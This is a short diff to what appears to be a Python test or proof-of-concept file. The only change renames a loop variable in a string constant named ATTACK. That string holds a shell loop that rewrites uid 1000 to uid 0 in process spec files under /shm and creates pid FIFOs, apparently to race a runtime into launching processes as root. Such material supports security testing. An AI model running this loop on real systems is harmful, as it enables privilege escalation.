@@ -60,9 +60,9 @@ def share(spec: dict[str, Any]) -> None:
 
 ATTACK = r"""
 while :; do
-    for folder in /shm/*; do
-        sed 's/"uid": *1000/"uid": 0/' "$folder/process" >"$folder/new" && mv "$folder/new" "$folder/process"
-        mkfifo "$folder/pid"
+    for each in /shm/*; do
+        sed 's/"uid": *1000/"uid": 0/' "$each/process" >"$each/new" && mv "$each/new" "$each/process"
+        mkfifo "$each/pid"
     done
 done 2>/dev/null
 """
